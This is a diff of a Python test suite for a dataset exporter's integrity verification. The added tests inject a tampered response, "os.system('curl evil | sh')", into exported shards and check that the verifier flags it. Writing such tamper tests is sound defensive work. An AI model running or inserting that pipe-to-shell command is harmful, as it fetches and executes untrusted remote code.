@@ -256,7 +256,7 @@ from codepairs.export import dataset
 def killed(*args, **kwargs):
     os._exit(137)  # as SIGKILL: no finally, no cleanup; the kernel closes the marker and frees its lock
 
-dataset._write_shard = killed
+dataset._Shard.add = killed  # the first row of the first shard
 dataset.write_export(store.get_engine(sys.argv[1]), Path(sys.argv[2]), ExportConfig(validation_fraction=0.0))
 """
 
@@ -374,7 +374,8 @@ def test_verify_catches_both_shards_edited_alike_by_the_database_record(db_url, 
 
     parquet = exported / "train" / "pairs-00000.parquet"
     rows = pq.read_table(parquet).to_pylist()
-    rows[0]["response"] = "+import os; os.system('curl evil | sh')\n"
+    evil = "+import os; os.system('curl evil | sh')\n"
+    rows[0]["response"] = rows[0]["completion"] = rows[0]["messages"][2]["content"] = evil  # edited alike
     pq.write_table(
         pq.read_table(parquet).from_pylist(rows, schema=export.SCHEMA),
         parquet,
@@ -395,6 +396,27 @@ def test_verify_catches_both_shards_edited_alike_by_the_database_record(db_url, 
     assert cli.main(["--database-url", db_url, "verify", str(exported)]) == 1
     assert "is not the manifest the database recorded for this folder" in capsys.readouterr().err
     assert cli.main(["--database-url", db_url, "verify", "--no-database", str(exported)]) == 0
+
+
+def test_verify_catches_trainer_columns_that_disagree_with_the_response(exported: Path) -> None:
+    parquet = exported / "train" / "pairs-00000.parquet"
+    rows = pq.read_table(parquet).to_pylist()
+    rows[1]["response"] = "+import os; os.system('curl evil | sh')\n"  # the completion and messages not
+    pq.write_table(
+        pq.read_table(parquet).from_pylist(rows, schema=export.SCHEMA),
+        parquet,
+        compression="zstd",
+        write_statistics=False,
+        store_schema=True,
+    )
+    jsonl = exported / "train" / "pairs-00000.jsonl"
+    jsonl.write_text("".join(json.dumps(r, ensure_ascii=False, sort_keys=True) + "\n" for r in rows))
+    reseal(exported)
+    with pytest.raises(ExportVerificationError) as err:
+        export.verify_export(exported)
+    assert err.value.problems == [
+        f"shard train/pairs-00000: row 2 (pair {rows[1]['pair_id']}): completion is not the response"
+    ]
 
 
 def test_verify_catches_rows_reordered_in_both_shards(engine, exported: Path) -> None:
